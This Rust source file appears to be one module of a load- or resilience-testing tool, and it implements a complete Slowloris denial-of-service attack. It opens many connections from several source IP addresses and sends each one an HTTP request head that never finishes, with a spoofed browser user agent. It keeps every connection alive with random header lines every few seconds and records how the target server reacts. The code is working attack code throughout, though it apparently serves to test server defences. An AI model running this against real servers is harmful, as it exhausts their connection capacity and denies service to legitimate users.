//! Slowloris: connections that never finish their request head. Each sends
//! a request line and a few headers, then one more header line every 2–4 s,
//! and notes when the server closes it.

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until, timeout_at};

use super::Run;
use super::client::connect_tcp;
use super::rng::Rng;

/// Gap between connection openings.
const OPEN_EVERY: Duration = Duration::from_millis(20);
const LINE_EVERY_MIN: Duration = Duration::from_secs(2);
const LINE_EVERY_MAX: Duration = Duration::from_secs(4);

/// What happened to the slowloris connections.
#[derive(Debug, Default, Clone, Serialize)]
pub struct SlowlorisStats {
    /// Connections tried.
    pub attempted: u64,
    /// Connections established.
    pub opened: u64,
    /// Connections refused, reset or timed out while connecting.
    pub connect_failures: u64,
    /// Opened connections the server closed (or reset) before the end.
    pub closed_by_server: u64,
    /// Of those, how many got some bytes (e.g. a 408) before the close.
    pub answered: u64,
    /// Opened connections still open when the run ended.
    pub still_open: u64,
    /// Header lines sent after the first write, over all connections.
    pub lines_sent: u64,
    /// Seconds from opening to the server's close, per closed connection.
    #[serde(skip)]
    pub close_after: Vec<Duration>,
}

enum End {
    ConnectFailed,
    Closed {
        after: Duration,
        answered: bool,
        lines: u64,
    },
    StillOpen {
        lines: u64,
    },
}

/// Opens `per_source` connections from each source and holds them until
/// the server closes them or the run ends.
pub async fn run(
    run: Arc<Run>,
    sources: &[IpAddr],
    per_source: usize,
    mut rng: Rng,
) -> SlowlorisStats {
    sleep_until(run.attack_start).await;
    let mut tasks = JoinSet::new();
    let mut at = Instant::now();
    'open: for round in 0..per_source {
        for (s, source) in sources.iter().enumerate() {
            sleep_until(at).await;
            at += OPEN_EVERY;
            if Instant::now() >= run.end {
                break 'open;
            }
            let wait = run.connections.clone().acquire_owned();
            let Ok(Ok(permit)) = timeout_at(run.end, wait).await else {
                break 'open;
            };
            let run = run.clone();
            let source = *source;
            let rng = Rng::new(rng.next_u64(), (round * sources.len() + s) as u64);
            tasks.spawn(async move {
                let end = hold(&run, source, rng).await;
                drop(permit);
                end
            });
        }
    }
    let mut stats = SlowlorisStats::default();
    while let Some(joined) = tasks.join_next().await {
        stats.attempted += 1;
        match joined {
            Ok(End::ConnectFailed) => stats.connect_failures += 1,
            Ok(End::Closed {
                after,
                answered,
                lines,
            }) => {
                stats.opened += 1;
                stats.closed_by_server += 1;
                stats.answered += u64::from(answered);
                stats.lines_sent += lines;
                stats.close_after.push(after);
            }
            Ok(End::StillOpen { lines }) => {
                stats.opened += 1;
                stats.still_open += 1;
                stats.lines_sent += lines;
            }
            Err(error) => tracing::warn!(%error, "slowloris task failed"),
        }
    }
    stats.close_after.sort();
    stats
}

async fn hold(run: &Run, source: IpAddr, mut rng: Rng) -> End {
    let connect_by = (Instant::now() + run.request_timeout).min(run.end);
    let stream = match timeout_at(connect_by, connect_tcp(source, &run.target)).await {
        Ok(Ok(s)) => s,
        Ok(Err(error)) => {
            tracing::debug!(%source, %error, "slowloris connect failed");
            return End::ConnectFailed;
        }
        Err(_) => return End::ConnectFailed,
    };
    let opened = Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    let head = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nAccept-Language: en-US,en;q=0.5\r\n",
        run.target.path(&format!("/?{}", rng.hex(8))),
        run.target.authority,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    );
    let closed = |answered, lines| End::Closed {
        after: opened.elapsed(),
        answered,
        lines,
    };
    if writer.write_all(head.as_bytes()).await.is_err() {
        return closed(false, 0);
    }
    let mut lines = 0u64;
    let mut answered = false;
    let mut next_line = opened + rng.duration(LINE_EVERY_MIN, LINE_EVERY_MAX);
    let mut buf = [0u8; 1024];
    loop {
        tokio::select! {
            read = reader.read(&mut buf) => match read {
                Ok(0) | Err(_) => return closed(answered, lines),
                Ok(_) => answered = true,
            },
            () = sleep_until(next_line) => {
                let line = format!("X-{}: {}\r\n", rng.hex(4), rng.hex(8));
                if writer.write_all(line.as_bytes()).await.is_err() {
                    return closed(answered, lines);
                }
                lines += 1;
                next_line += rng.duration(LINE_EVERY_MIN, LINE_EVERY_MAX);
            }
            () = sleep_until(run.end) => return End::StillOpen { lines },
        }
    }
}
